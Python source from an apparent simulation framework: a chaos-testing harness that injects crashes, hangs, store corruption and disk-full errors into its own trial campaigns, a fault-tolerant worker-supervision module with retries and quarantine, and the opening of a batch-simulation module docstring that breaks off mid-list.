from ..campaign.store import TrialStore
from ..errors import StoreWriteError
from ..obs import MetricsRegistry
from ..workloads.aes import AesWorkload
from .supervision import GroundPolicy

__all__ = [
    "HostChaosReport",
    "HostFaultScenario",
    "default_host_scenarios",
    "host_reports_digest",
    "render_host_reports",
    "run_host_chaos",
    "run_host_scenario",
]

#: Scenario kinds that inject inside the worker (vs. into the store).
_WORKER_KINDS = frozenset({"crash", "hang", "transient"})
_STORE_KINDS = frozenset({"store-bitflip", "store-truncate", "disk-full"})


@dataclass(frozen=True)
class HostFaultScenario:
    """One deterministic ground-fault injection plan.

    ``kind`` picks the fault: ``crash`` (``os._exit`` mid-trial),
    ``hang`` (sleep past the attempt timeout), ``transient`` (a trial
    exception), ``store-bitflip`` / ``store-truncate`` (corrupt a
    stored entry between runs), ``disk-full`` (``ENOSPC`` on put).
    Worker faults fire on the trials in ``fault_trials`` for their
    first ``fail_attempts`` attempts, then stop — so
    ``fail_attempts >= max_attempts`` makes a poison trial. The
    remaining fields mirror :class:`~repro.ground.GroundPolicy`.
    """

    name: str
    kind: str
    trials: int = 6
    seed: int = 0
    fault_trials: "tuple[int, ...]" = (2,)
    fail_attempts: int = 1
    timeout_seconds: "float | None" = 10.0
    max_attempts: int = 3
    max_worker_losses: int = 8
    expect_quarantined: "tuple[int, ...]" = ()
    expect_serial_fallback: bool = False

    def policy(self) -> GroundPolicy:
        return GroundPolicy(
            timeout_seconds=self.timeout_seconds,
            max_attempts=self.max_attempts,
            backoff_base_seconds=0.01,
            backoff_max_seconds=0.1,
            max_worker_losses=self.max_worker_losses,
        )


def default_host_scenarios() -> "tuple[HostFaultScenario, ...]":
    """The CI matrix: every fault class the ground layer must survive."""
    return (
        # A worker hard-crashes mid-trial once; the replacement worker
        # retries with the same seed and succeeds.
        HostFaultScenario(name="worker-crash", kind="crash", seed=101),
        # A worker wedges; the deadline kills it and the retry lands.
        HostFaultScenario(
            name="worker-hang", kind="hang", seed=102, timeout_seconds=0.75
        ),
        # A trial throws twice, then succeeds on the third attempt.
        HostFaultScenario(
            name="transient-error", kind="transient", seed=103, fail_attempts=2
        ),
        # A trial that never stops failing: quarantined after
        # max_attempts, the campaign still completes.
        HostFaultScenario(
            name="poison-trial",
            kind="transient",
            seed=104,
            fail_attempts=99,
            expect_quarantined=(2,),
        ),
        # The pool dies three times (budget: two) — the run degrades to
        # serial and the fourth attempt succeeds in-process.
        HostFaultScenario(
            name="pool-loss",
            kind="crash",
            seed=105,
            fail_attempts=3,
            max_attempts=6,
            max_worker_losses=2,
            expect_serial_fallback=True,
        ),
        # A stored entry rots on disk (single flipped byte); resume
        # must detect, quarantine, and re-run it.
        HostFaultScenario(name="store-bitflip", kind="store-bitflip", seed=106),
        # A stored entry is truncated (torn write / lost tail).
        HostFaultScenario(
            name="store-truncate", kind="store-truncate", seed=107
        ),
        # The disk fills mid-campaign; the run dies with a typed error
        # and a later run on a healthy disk resumes what was persisted.
        HostFaultScenario(name="disk-full", kind="disk-full", seed=108),
    )


# ----------------------------------------------------------------------
# the campaign under test
# ----------------------------------------------------------------------
def _inject_host_fault(index: int, fault: dict) -> None:
    """Fire the planned fault for attempt N of trial ``index``.

    Attempts are counted in marker files under the scenario's scratch
    directory — in-memory counters die with the crashed worker, the
    filesystem does not. Fires strictly before the trial touches its
    RNG, so surviving attempts are byte-identical to fault-free ones.
    """
    if index not in fault["trials"]:
        return
    marker = Path(fault["marker_dir"]) / f"trial-{index}.attempts"
    attempt = int(marker.read_text()) + 1 if marker.exists() else 1
    marker.write_text(str(attempt))
    if attempt > fault["fail_attempts"]:
        return
    kind = fault["kind"]
    if kind == "crash":
        os._exit(23)  # hard death: no exception, no cleanup, broken pipe
    if kind == "hang":
        time.sleep(3600.0)  # the supervisor's deadline must bite first
    if kind == "transient":
        raise RuntimeError(f"injected transient host fault (attempt {attempt})")


def _host_trial(item: dict, rng, tracer=None) -> dict:
    """One small real trial: build an AES workload, digest its outputs.

    The result depends only on ``rng`` (pinned by the campaign seed and
    the trial index), never on the fault plan — that is the property
    every byte-identity assertion below leans on.
    """
    fault = item.get("fault")
    if fault is not None:
        _inject_host_fault(item["i"], fault)
    workload = AesWorkload(chunk_bytes=32, chunks=2)
    spec = workload.build(rng)
    material = b"".join(workload.reference_outputs(spec))
    return {
        "i": item["i"],
        "digest": hashlib.sha256(material).hexdigest(),
    }


def _host_campaign(
    scenario: HostFaultScenario, fault: "dict | None" = None
) -> Campaign:
    """The scenario's campaign. ``fault`` rides in the items only —
    params (and so fingerprints) are identical with and without it."""
    trials = []
    for i in range(scenario.trials):
        item: dict = {"i": i}
        if fault is not None:
            item["fault"] = fault
        trials.append(Trial(params={"i": i}, item=item))
    return Campaign(
        name=f"ground-chaos-{scenario.name}",
        trial_fn=_host_trial,
        trials=trials,
        seed=scenario.seed,
    )


def _values_digest(values: "list") -> str:
    """SHA-256 over the canonical JSON of the values, grid order.
    Quarantined slots are ``None`` and hash as such."""
    material = canonical_json(values)
    return hashlib.sha256(material.encode("utf-8")).hexdigest()


class _FullDiskStore(TrialStore):
    """A store whose disk fills after ``capacity`` entries.

    Overrides the write seam only: the first ``capacity`` puts land
    normally, every later one fails with ``ENOSPC`` — exactly what a
    filling volume does — which :meth:`TrialStore.put` must translate
    into a :class:`~repro.errors.StoreWriteError`.
    """

    def __init__(self, root, capacity: int) -> None:
        super().__init__(root)
        self.capacity = capacity
        self.writes = 0

    def _write_entry(self, path, entry) -> None:
        if self.writes >= self.capacity:
            raise OSError(errno.ENOSPC, "No space left on device (injected)")
        super()._write_entry(path, entry)
        self.writes += 1


# ----------------------------------------------------------------------
# reports
# ----------------------------------------------------------------------
@dataclass
class HostChaosReport:
    """What one host-fault scenario proved (or failed to prove).

    Deliberately excludes the worker count and any host path, so the
    digest over a matrix run is comparable across worker counts and
    reruns — the cross-run byte-identity witness ``check_ground`` uses.
    """

    scenario: str
    kind: str
    seed: int
    counters: "dict[str, int]" = field(default_factory=dict)
    quarantined: "list[int]" = field(default_factory=list)
    serial_fallback: bool = False
    values_digest: str = ""
    violations: "list[str]" = field(default_factory=list)

    @property
    def ok(self) -> bool:
        return not self.violations

    def to_dict(self) -> dict:
        return {
            "scenario": self.scenario,
            "kind": self.kind,
            "seed": self.seed,
            "counters": {k: self.counters[k] for k in sorted(self.counters)},
            "quarantined": list(self.quarantined),
            "serial_fallback": self.serial_fallback,
            "values_digest": self.values_digest,
            "violations": list(self.violations),
        }


def host_reports_digest(reports: "list[HostChaosReport]") -> str:
    """SHA-256 over every report's canonical encoding, in order."""
    material = canonical_json([r.to_dict() for r in reports])
    return hashlib.sha256(material.encode("utf-8")).hexdigest()


def render_host_reports(reports: "list[HostChaosReport]") -> str:
    """Human-readable matrix summary (mirrors ``repro chaos run``)."""
    lines = []
    total = 0
    for report in reports:
        verdict = "ok" if report.ok else f"{len(report.violations)} VIOLATION(S)"
        total += len(report.violations)
        interesting = " ".join(
            f"{k.removeprefix('ground.')}={v}"
            for k, v in sorted(report.counters.items())
            if v
        )
        extras = []
        if report.quarantined:
            extras.append(f"quarantined={report.quarantined}")
        if report.serial_fallback:
            extras.append("serial-fallback")
        lines.append(
            f"{report.scenario:<18} {verdict:<16} "
            f"{' '.join([interesting, *extras]).strip()}"
        )
        for violation in report.violations:
            lines.append(f"    !! {violation}")
    lines.append(
        f"{len(reports)} scenario(s), {total} violation(s), "
        f"digest {host_reports_digest(reports)[:16]}"
    )
    return "\n".join(lines)


# ----------------------------------------------------------------------
# scenario runners
# ----------------------------------------------------------------------
_GROUND_COUNTERS = (
    "ground.worker_crashes",
    "ground.timeouts",
    "ground.trial_errors",
    "ground.retries",
    "ground.worker_losses",
    "ground.quarantined",
    "ground.serial_fallback",
)


def _ground_counters(metrics: MetricsRegistry) -> "dict[str, int]":
    counters = metrics.snapshot()["counters"]
    return {
        name: int(counters[name])
        for name in _GROUND_COUNTERS
        if counters.get(name)
    }


def _run_worker_fault(
    scenario: HostFaultScenario,
    report: HostChaosReport,
    baseline_values: "list",
    workers: int,
    scratch: Path,
) -> None:
    """Crash / hang / transient / poison / pool-loss scenarios."""
    fault = {
        "kind": scenario.kind,
        "trials": list(scenario.fault_trials),
        "fail_attempts": scenario.fail_attempts,
        "marker_dir": str(scratch / "markers"),
    }
    (scratch / "markers").mkdir(parents=True, exist_ok=True)
    metrics = MetricsRegistry()
    result = execute(
        _host_campaign(scenario, fault=fault),
        workers=workers,
        supervision=scenario.policy(),
        metrics=metrics,
    )
    report.counters = _ground_counters(metrics)
    report.quarantined = sorted(q.index for q in result.quarantined)
    report.serial_fallback = bool(result.report.serial_fallback)

    expected = [
        None if i in scenario.expect_quarantined else baseline_values[i]
        for i in range(scenario.trials)
    ]
    if result.values != expected:
        report.violations.append(
            "surviving results diverged from the fault-free baseline"
        )
    if report.quarantined != sorted(scenario.expect_quarantined):
        report.violations.append(
            f"quarantine manifest {report.quarantined} != expected "
            f"{sorted(scenario.expect_quarantined)}"
        )
    if report.serial_fallback != scenario.expect_serial_fallback:
        report.violations.append(
            f"serial_fallback={report.serial_fallback}, expected "
            f"{scenario.expect_serial_fallback}"
        )
    # No silent escape: every injected fault shows up in the counters.
    if scenario.fault_trials and not report.counters:
        report.violations.append(
            "faults were injected but no ground.* counter recorded them"
        )


def _run_store_rot(
    scenario: HostFaultScenario,
    report: HostChaosReport,
    baseline_values: "list",
    workers: int,
    scratch: Path,
) -> None:
    """store-bitflip / store-truncate: corrupt one entry, resume."""
    store = TrialStore(scratch / "store")
    campaign = _host_campaign(scenario)
    execute(campaign, workers=1, store=store)

    fingerprints = store.fingerprints()
    victim = store.path(fingerprints[scenario.seed % len(fingerprints)])
    raw = victim.read_bytes()
    if scenario.kind == "store-truncate":
        victim.write_bytes(raw[: len(raw) // 2])
    else:
        middle = len(raw) // 2
        victim.write_bytes(raw[:middle] + bytes([raw[middle] ^ 0xFF]) + raw[middle + 1 :])

    metrics = MetricsRegistry()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", RuntimeWarning)
        result = execute(
            campaign,
            workers=workers,
            store=store,
            supervision=scenario.policy(),
            metrics=metrics,
        )
    counters = metrics.snapshot()["counters"]
    report.counters = {
        "store.corrupt": int(counters.get("campaign.store.corrupt", 0)),
        "store.reexecuted": result.executed,
    }
    if result.values != baseline_values:
        report.violations.append(
            "resumed results diverged from the fault-free baseline"
        )
    if counters.get("campaign.store.corrupt", 0) != 1:
        report.violations.append(
            "corrupted entry was not counted as a store defect"
        )
    if result.executed != 1 or result.store_hits != scenario.trials - 1:
        report.violations.append(
            f"expected exactly the corrupted trial to re-run, got "
            f"executed={result.executed} hits={result.store_hits}"
        )
    if not list(store.quarantine_dir.glob("*.json")):
        report.violations.append("corrupted entry never reached .quarantine/")
    if not status(campaign, store).completed == scenario.trials:
        report.violations.append("store incomplete after recovery re-run")


def _run_disk_full(
    scenario: HostFaultScenario,
    report: HostChaosReport,
    baseline_values: "list",
    workers: int,
    scratch: Path,
) -> None:
    """disk-full: ENOSPC mid-campaign must terminate with a typed
    error, then a healthy-disk rerun resumes what was persisted."""
    root = scratch / "store"
    capacity = 2
    flaky = _FullDiskStore(root, capacity=capacity)
    campaign = _host_campaign(scenario)
    try:
        execute(
            campaign,
            workers=workers,
            store=flaky,
            supervision=scenario.policy(),
        )
        report.violations.append(
            "campaign survived a full disk without raising StoreWriteError"
        )
    except StoreWriteError as exc:
        if "resume" not in str(exc):
            report.violations.append(
                "StoreWriteError carries no operator guidance"
            )
    persisted = len(TrialStore(root))
    report.counters = {"store.persisted_before_failure": persisted}
    if persisted != capacity:
        report.violations.append(
            f"{persisted} entries on disk after failure, expected {capacity}"
        )

    # The disk is "freed": a plain store at the same root resumes.
    healthy = TrialStore(root)
    result = execute(
        campaign,
        workers=workers,
        store=healthy,
        supervision=scenario.policy(),
    )
    report.counters["store.resumed_hits"] = result.store_hits
    if result.values != baseline_values:
        report.violations.append(
            "post-recovery results diverged from the fault-free baseline"
        )
    if result.store_hits != capacity:
        report.violations.append(
            f"resume re-ran persisted trials (hits={result.store_hits})"
        )


def run_host_scenario(
    scenario: HostFaultScenario, *, workers: int = 2
) -> HostChaosReport:
    """Run one scenario in a throwaway scratch directory.

    The report is a pure function of ``(scenario, workers)`` up to the
    invariants it checks — and contains nothing worker-count- or
    host-dependent, so matrix digests compare across worker counts.
    """
    report = HostChaosReport(
        scenario=scenario.name, kind=scenario.kind, seed=scenario.seed
    )
    baseline = execute(_host_campaign(scenario), workers=1)
    report.values_digest = _values_digest(baseline.values)

    with tempfile.TemporaryDirectory(prefix=f"ground-{scenario.name}-") as tmp:
        scratch = Path(tmp)
        try:
            if scenario.kind in _WORKER_KINDS:
                _run_worker_fault(
                    scenario, report, baseline.values, workers, scratch
                )
            elif scenario.kind in {"store-bitflip", "store-truncate"}:
                _run_store_rot(
                    scenario, report, baseline.values, workers, scratch
                )
            elif scenario.kind == "disk-full":
                _run_disk_full(
                    scenario, report, baseline.values, workers, scratch
                )
            else:
                report.violations.append(f"unknown scenario kind {scenario.kind!r}")
        except Exception as exc:  # noqa: BLE001 - invariant: always terminates
            report.violations.append(
                f"scenario escaped with {type(exc).__name__}: {exc}"
            )
    return report


def run_host_chaos(
    scenarios: "tuple[HostFaultScenario, ...] | None" = None,
    *,
    workers: int = 2,
) -> "tuple[list[HostChaosReport], str]":
    """Run the matrix; returns ``(reports, digest)``."""
    scenarios = scenarios if scenarios is not None else default_host_scenarios()
    reports = [run_host_scenario(s, workers=workers) for s in scenarios]
    return reports, host_reports_digest(reports)
