"""Worker supervision: the fault-tolerant ground executor.

:func:`repro.parallel.pmap_report` assumes workers never crash, never
hang, and trial functions never throw — one segfaulting trial kills
the whole campaign, one wedged worker stalls it forever. This module
is the drop-in supervised path (``pmap_report(supervision=policy)`` /
``execute(supervision=policy)``) that removes those assumptions while
keeping the determinism contract intact:

* **Byte-identical retries.** Every attempt of task *i* receives the
  same spawned seed the plain path would hand it; a retry that
  succeeds produces exactly the bytes a first-try success would, so
  supervised campaigns aggregate byte-identically to unsupervised
  ones at any worker count.
* **Timeouts and replacement.** Each attempt runs in a dedicated
  child process with an optional wall-clock deadline; a hung worker
  is killed and replaced, a crashed worker (hard exit, OOM-kill,
  segfault) is detected by its broken pipe and replaced.
* **Bounded retry with backoff.** Failures (crash, timeout, trial
  exception) are retried up to ``max_attempts`` with exponential
  backoff; wall-clock delays never leak into results.
* **Poison quarantine.** A task that exhausts its attempts is
  quarantined — the batch *completes* and the report carries a
  :class:`QuarantinedTask` manifest instead of the run dying.
* **Serial fallback.** When worker losses exceed
  ``max_worker_losses`` (a host that cannot keep a pool alive), the
  remaining tasks run serially in-process; retry/quarantine still
  apply, only timeout enforcement is lost.

Everything observable lands in the caller's
:class:`~repro.obs.MetricsRegistry` under ``ground.*`` counters and,
when tracing, as ``ground.*`` trace events merged into the affected
task's timeline (rendered by ``repro trace summarize``).
"""

from __future__ import annotations

import multiprocessing
import os
import time
from collections import deque
from dataclasses import dataclass
from multiprocessing import connection as mp_connection

import numpy as np

from ..errors import ConfigurationError
from ..obs.trace import KIND_EVENT, TraceRecord
from ..parallel import (
    ParallelReport,
    TaskTiming,
    _invoke,
    _pool_usable,
    resolve_workers,
)

__all__ = [
    "GroundPolicy",
    "QuarantinedTask",
    "QuarantinedTrial",
    "quarantine_manifest",
    "supervised_pmap_report",
]


@dataclass(frozen=True)
class GroundPolicy:
    """Supervision knobs for one supervised batch.

    ``timeout_seconds`` bounds each *attempt*'s wall clock (``None``
    disables timeouts — crashes and exceptions are still handled).
    ``max_attempts`` counts total tries per task before quarantine.
    Backoff before retry *k* (1-based) is
    ``min(backoff_base_seconds * backoff_factor**(k-1),
    backoff_max_seconds)``. ``max_worker_losses`` is the pool-loss
    budget (crashes + timeout kills + failed spawns) after which the
    batch degrades to in-process serial execution.
    """

    timeout_seconds: "float | None" = None
    max_attempts: int = 3
    backoff_base_seconds: float = 0.05
    backoff_factor: float = 2.0
    backoff_max_seconds: float = 2.0
    max_worker_losses: int = 8

    def __post_init__(self) -> None:
        if self.max_attempts < 1:
            raise ConfigurationError("max_attempts must be >= 1")
        if self.timeout_seconds is not None and self.timeout_seconds <= 0:
            raise ConfigurationError("timeout_seconds must be positive")
        if self.backoff_base_seconds < 0 or self.backoff_max_seconds < 0:
            raise ConfigurationError("backoff durations must be >= 0")
        if self.backoff_factor < 1.0:
            raise ConfigurationError("backoff_factor must be >= 1")
        if self.max_worker_losses < 0:
            raise ConfigurationError("max_worker_losses must be >= 0")

    def backoff_seconds(self, failures: int) -> float:
        """Delay before the retry that follows failure ``failures``."""
        delay = self.backoff_base_seconds * (
            self.backoff_factor ** max(0, failures - 1)
        )
        return min(delay, self.backoff_max_seconds)


@dataclass(frozen=True)
class QuarantinedTask:
    """One task that exhausted its attempt budget (pmap-level view)."""

    index: int  # position in the batch's input order
    attempts: int
    error: str  # last failure, e.g. "timeout: exceeded 1.0s"

    def to_dict(self) -> dict:
        return {
            "index": self.index,
            "attempts": self.attempts,
            "error": self.error,
        }


@dataclass(frozen=True)
class QuarantinedTrial:
    """A quarantined task resolved to its campaign identity.

    ``round`` is the stream round ordinal for trials quarantined
    inside a multi-round stream (:mod:`repro.campaign.stream`);
    ``None`` for plain one-shot campaigns, and omitted from the
    manifest dict in that case so single-round manifests keep their
    historical shape.
    """

    index: int  # grid position (within its round, for streams)
    fingerprint: str
    params: dict
    attempts: int
    error: str
    round: "int | None" = None

    def to_dict(self) -> dict:
        out = {
            "index": self.index,
            "fingerprint": self.fingerprint,
            "params": self.params,
            "attempts": self.attempts,
            "error": self.error,
        }
        if self.round is not None:
            out["round"] = self.round
        return out


def quarantine_manifest(result) -> dict:
    """JSON-safe quarantine manifest for a supervised campaign run
    (:class:`~repro.campaign.CampaignResult`)."""
    return {
        "campaign": result.name,
        "quarantined": [q.to_dict() for q in result.quarantined],
    }


# ----------------------------------------------------------------------
# child side
# ----------------------------------------------------------------------
def _worker_main(conn) -> None:
    """Child loop: run payloads until the parent hangs up.

    Trial exceptions are caught and reported as messages — only a hard
    crash (``os._exit``, a segfault, the OOM killer) breaks the pipe,
    which is exactly how the parent tells the two apart.
    """
    while True:
        try:
            message = conn.recv()
        except (EOFError, OSError):
            break
        if message is None:
            break
        index, payload = message
        try:
            outcome = _invoke(payload)
            reply = (index, "ok", outcome, "")
        except Exception as exc:  # noqa: BLE001 - reported, not swallowed
            reply = (index, "error", None, f"{type(exc).__name__}: {exc}")
        try:
            conn.send(reply)
        except Exception:  # noqa: BLE001 - parent gone / unpicklable value
            break


class _Worker:
    """One supervised child process plus its duplex pipe."""

    __slots__ = ("proc", "conn", "index", "deadline")

    def __init__(self, ctx) -> None:
        parent_conn, child_conn = ctx.Pipe()
        self.proc = ctx.Process(
            target=_worker_main, args=(child_conn,), daemon=True
        )
        self.proc.start()
        child_conn.close()
        self.conn = parent_conn
        self.index: "int | None" = None
        self.deadline: "float | None" = None

    @property
    def busy(self) -> bool:
        return self.index is not None

    def assign(self, index: int, payload, timeout: "float | None") -> None:
        self.index = index
        self.deadline = (
            None if timeout is None else time.monotonic() + timeout
        )
        self.conn.send((index, payload))

    def clear(self) -> None:
        self.index = None
        self.deadline = None

    def kill(self) -> None:
        try:
            self.proc.kill()
        except Exception:  # noqa: BLE001 - already dead
            pass
        self.proc.join(timeout=5.0)
        try:
            self.conn.close()
        except OSError:
            pass

    def release(self) -> None:
        """Graceful shutdown; escalates to kill if the child lingers."""
        try:
            self.conn.send(None)
        except Exception:  # noqa: BLE001 - pipe already broken
            pass
        self.proc.join(timeout=2.0)
        if self.proc.is_alive():
            self.kill()
        else:
            try:
                self.conn.close()
            except OSError:
                pass


# ----------------------------------------------------------------------
# parent side
# ----------------------------------------------------------------------
class _SupervisedRun:
    """State machine for one supervised batch."""

    def __init__(self, payloads, policy, effective, on_result, metrics):
        self.payloads = payloads
        self.policy = policy
        self.effective = effective
        self.on_result = on_result
        self.metrics = metrics
        self.n = len(payloads)
        self.results: "dict[int, tuple]" = {}
        self.failures: "dict[int, int]" = {i: 0 for i in range(self.n)}
        self.quarantined: "dict[int, QuarantinedTask]" = {}
        self.ground_events: "dict[int, list[TraceRecord]]" = {}
        self.runnable: "deque[int]" = deque(range(self.n))
        self.delayed: "list[tuple[float, int]]" = []
        self.workers: "list[_Worker]" = []
        self.losses = 0
        self.retries = 0
        self.timeouts = 0
        self.serial_fallback = False

    # -- accounting ----------------------------------------------------
    def _count(self, name: str, amount: int = 1) -> None:
        if self.metrics is not None:
            self.metrics.counter(name).inc(amount)

    def _event(self, index: int, name: str, **attrs) -> None:
        """Ground events are host incidents; they carry the attempt
        ordinal as their timestamp so a task's timeline stays ordered
        without ever reading a wall clock into a record."""
        self.ground_events.setdefault(index, []).append(
            TraceRecord(
                t=float(self.failures[index]),
                kind=KIND_EVENT,
                name=name,
                attrs={"trial": index, **attrs},
            )
        )

    @property
    def done(self) -> bool:
        return len(self.results) + len(self.quarantined) >= self.n

    # -- task lifecycle ------------------------------------------------
    def _complete(self, index: int, outcome) -> None:
        self.results[index] = outcome
        if self.on_result is not None:
            self.on_result(index, outcome[0])

    _FAIL_COUNTERS = {
        "worker_crash": "ground.worker_crashes",
        "timeout": "ground.timeouts",
        "trial_error": "ground.trial_errors",
    }

    def _fail(self, index: int, kind: str, detail: str) -> None:
        """One attempt of ``index`` failed; retry or quarantine."""
        self.failures[index] += 1
        attempts = self.failures[index]
        if kind in self._FAIL_COUNTERS:
            self._count(self._FAIL_COUNTERS[kind])
        self._event(index, f"ground.{kind}", detail=detail, attempt=attempts)
        if attempts >= self.policy.max_attempts:
            self.quarantined[index] = QuarantinedTask(
                index=index, attempts=attempts, error=f"{kind}: {detail}"
            )
            self._count("ground.quarantined")
            self._event(index, "ground.quarantine", attempts=attempts)
        else:
            self.retries += 1
            self._count("ground.retries")
            self._event(index, "ground.retry", attempt=attempts + 1)
            delay = self.policy.backoff_seconds(attempts)
            self.delayed.append((time.monotonic() + delay, index))

    def _lose_worker(self, worker: _Worker, kind: str, detail: str) -> None:
        """A worker crashed or was killed; its task failed an attempt."""
        index = worker.index
        worker.clear()
        worker.kill()
        if worker in self.workers:
            self.workers.remove(worker)
        self.losses += 1
        self._count("ground.worker_losses")
        if index is not None:
            self._fail(index, kind, detail)
        if (
            self.losses > self.policy.max_worker_losses
            and not self.serial_fallback
        ):
            self._enter_serial_fallback()

    def _enter_serial_fallback(self) -> None:
        self.serial_fallback = True
        self._count("ground.serial_fallback")
        # Tag the fallback onto every task still outstanding, so any
        # of their timelines explains the mode change.
        for index in range(self.n):
            if index not in self.results and index not in self.quarantined:
                self._event(index, "ground.serial_fallback", losses=self.losses)
        for worker in list(self.workers):
            # An attempt that was in flight when the pool died is
            # aborted, not failed: requeue it at its current attempt
            # count so the serial drain re-runs it with the same seed.
            if worker.index is not None:
                self.runnable.append(worker.index)
            worker.clear()
            worker.kill()
        self.workers.clear()

    # -- pool path -----------------------------------------------------
    def _promote_delayed(self) -> None:
        now = time.monotonic()
        if not self.delayed:
            return
        self.delayed.sort()
        while self.delayed and self.delayed[0][0] <= now:
            self.runnable.append(self.delayed.pop(0)[1])

    def _spawn_workers(self, ctx) -> None:
        outstanding = self.n - len(self.results) - len(self.quarantined)
        want = min(self.effective, outstanding)
        while len(self.workers) < want:
            try:
                self.workers.append(_Worker(ctx))
            except OSError:
                self.losses += 1
                self._count("ground.worker_losses")
                if self.losses > self.policy.max_worker_losses:
                    self._enter_serial_fallback()
                return

    def _dispatch(self) -> None:
        for worker in self.workers:
            if not self.runnable:
                break
            if worker.busy:
                continue
            index = self.runnable.popleft()
            try:
                worker.assign(
                    index, self.payloads[index], self.policy.timeout_seconds
                )
            except Exception:  # noqa: BLE001 - worker died while idle
                # The task never ran: requeue at the same attempt count
                # and account the loss against the pool, not the task.
                worker.clear()
                self.runnable.appendleft(index)
                self._lose_worker(worker, "worker_loss", "died while idle")
                return

    def _wait_timeout(self) -> float:
        """How long the next ``wait`` may block without missing a
        deadline or a newly eligible retry."""
        now = time.monotonic()
        horizon = 0.5
        for worker in self.workers:
            if worker.busy and worker.deadline is not None:
                horizon = min(horizon, worker.deadline - now)
        if self.delayed:
            horizon = min(horizon, min(t for t, _ in self.delayed) - now)
        return max(0.0, min(horizon, 0.5))

    def _reap_ready(self) -> None:
        busy = {w.conn: w for w in self.workers if w.busy}
        if not busy:
            # Nothing in flight: sleep just long enough for the next
            # delayed retry to become eligible.
            if self.delayed and not self.runnable:
                time.sleep(self._wait_timeout())
            return
        for conn in mp_connection.wait(list(busy), timeout=self._wait_timeout()):
            if self.serial_fallback:
                break  # the pool is already torn down
            worker = busy[conn]
            try:
                index, status, outcome, detail = conn.recv()
            except (EOFError, OSError):
                self._lose_worker(
                    worker, "worker_crash", "worker process died mid-trial"
                )
                continue
            worker.clear()
            if status == "ok":
                self._complete(index, outcome)
            else:
                self._fail(index, "trial_error", detail)

    def _reap_timeouts(self) -> None:
        if self.policy.timeout_seconds is None:
            return
        now = time.monotonic()
        for worker in list(self.workers):
            if worker.busy and worker.deadline is not None and now > worker.deadline:
                self.timeouts += 1
                self._lose_worker(
                    worker,
                    "timeout",
                    f"attempt exceeded {self.policy.timeout_seconds:g}s",
                )

    def run_pool(self, ctx) -> None:
        try:
            while not self.done and not self.serial_fallback:
                self._promote_delayed()
                self._spawn_workers(ctx)
                if not self.workers:
                    self._enter_serial_fallback()
                    break
                self._dispatch()
                self._reap_ready()
                self._reap_timeouts()
        finally:
            for worker in list(self.workers):
                worker.release()
            self.workers.clear()

    # -- serial path ---------------------------------------------------
    def run_serial(self) -> None:
        """In-process drain: bounded retry and quarantine still hold;
        per-attempt timeouts cannot be enforced without a child."""
        while not self.done:
            self._promote_delayed()
            if not self.runnable:
                if self.delayed:
                    time.sleep(self._wait_timeout())
                    continue
                break
            index = self.runnable.popleft()
            try:
                outcome = _invoke(self.payloads[index])
            except Exception as exc:  # noqa: BLE001 - retried/quarantined
                self._fail(
                    index, "trial_error", f"{type(exc).__name__}: {exc}"
                )
                continue
            self._complete(index, outcome)


def supervised_pmap_report(
    fn,
    items,
    *,
    seed=None,
    policy: "GroundPolicy | None" = None,
    workers: "int | None" = None,
    trace_path: "str | None" = None,
    on_result=None,
    metrics=None,
) -> ParallelReport:
    """:func:`repro.parallel.pmap_report` with worker supervision.

    Same calling convention and determinism contract; additionally
    honours ``policy`` (:class:`GroundPolicy`). Quarantined tasks
    yield ``None`` in ``values`` and a :class:`QuarantinedTask` entry
    in ``report.quarantined``. ``metrics`` receives the ``ground.*``
    counters; ``report.ground_events`` carries per-task host-incident
    records (and, with ``trace_path``, they are merged into the trace
    ahead of each task's own records).
    """
    policy = policy if policy is not None else GroundPolicy()
    items = list(items)
    n = len(items)
    if seed is None:
        child_seeds = [None] * n
    else:
        root = (
            seed
            if isinstance(seed, np.random.SeedSequence)
            else np.random.SeedSequence(seed)
        )
        child_seeds = root.spawn(n)
    with_tracer = trace_path is not None
    payloads = [
        (fn, item, child, with_tracer)
        for item, child in zip(items, child_seeds)
    ]

    effective = resolve_workers(workers, n)
    run = _SupervisedRun(payloads, policy, effective, on_result, metrics)
    if metrics is not None:
        metrics.counter("ground.tasks").inc(n)

    started = time.perf_counter()
    mode = "ground-serial"
    if n > 0 and _pool_usable(min_cpus=1):
        # Supervision always isolates attempts in child processes —
        # even at workers=1 — because a timeout can only be enforced
        # on something the parent can kill.
        mode = "ground-pool"
        run.run_pool(multiprocessing.get_context("fork"))
    if not run.done:
        run.run_serial()
    wall = time.perf_counter() - started

    values = [
        run.results[i][0] if i in run.results else None for i in range(n)
    ]
    timings = tuple(
        TaskTiming(
            index=i,
            seconds=run.results[i][1] if i in run.results else 0.0,
            pid=run.results[i][2] if i in run.results else 0,
        )
        for i in range(n)
    )
    ground_events = tuple(
        tuple(run.ground_events.get(i, ())) for i in range(n)
    )
    if with_tracer:
        from ..obs import merge_task_records

        merged = []
        for i in range(n):
            records = list(ground_events[i])
            if i in run.results and run.results[i][3]:
                records.extend(run.results[i][3])
            merged.append(records)
        merge_task_records(merged, trace_path)

    return ParallelReport(
        values=values,
        timings=timings,
        workers=effective,
        mode=mode,
        wall_seconds=wall,
        quarantined=tuple(
            run.quarantined[i] for i in sorted(run.quarantined)
        ),
        retries=run.retries,
        timeouts=run.timeouts,
        worker_losses=run.losses,
        serial_fallback=run.serial_fallback,
        ground_events=ground_events,
    )
