"""Structure-of-arrays batch simulation: N machines in lockstep.

The scalar :class:`~repro.sim.machine.Machine` is a graph of Python
objects — expressive, but every simulated tick costs Python dispatch,
and mission chunks, Table 7 campaigns and fleet studies all bottom out
in exactly that dispatch. This module packs the *hot per-tick state* of
N machines across a batch axis — core activity and PMU counters, DVFS
frequency indices, board current, sensor samples, thermal deadlines,
ILD rolling-filter windows, SEL/SEU application — so one
:meth:`BatchMachines.run` advances all N lanes per tick with array ops.

Two backends, one contract:

* :class:`FleetTicker` — the canonical scalar path. One real
  :class:`Machine` advanced tick by tick with per-machine arithmetic.
* :class:`BatchMachines` — the SoA path. N lanes advanced in lockstep.

The batch backend is **byte-identical** to the scalar one at any N:
state digests (:meth:`FleetTicker.state_digest` /
:meth:`BatchMachines.state_digest`) match tick for tick. Three rules
make that possible:

1. **Per-lane RNG streams.** Every lane owns its own
   ``np.random.Generator`` (a machine's own ``rng``, or one derived
   from a per-lane ``SeedSequence`` stream). Draws happen in fixed
   blocks of :attr:`TickConfig.block_ticks` ticks, in a pinned order
   per lane (utilization jitter, sensor noise, spike uniforms, spike
   magnitudes); scalar and batch consume the same blocks from the same
   streams. A dead or peeled lane stops drawing at the next block
   boundary in both backends.
2. **No per-tick transcendentals.** Current-vs-frequency tables
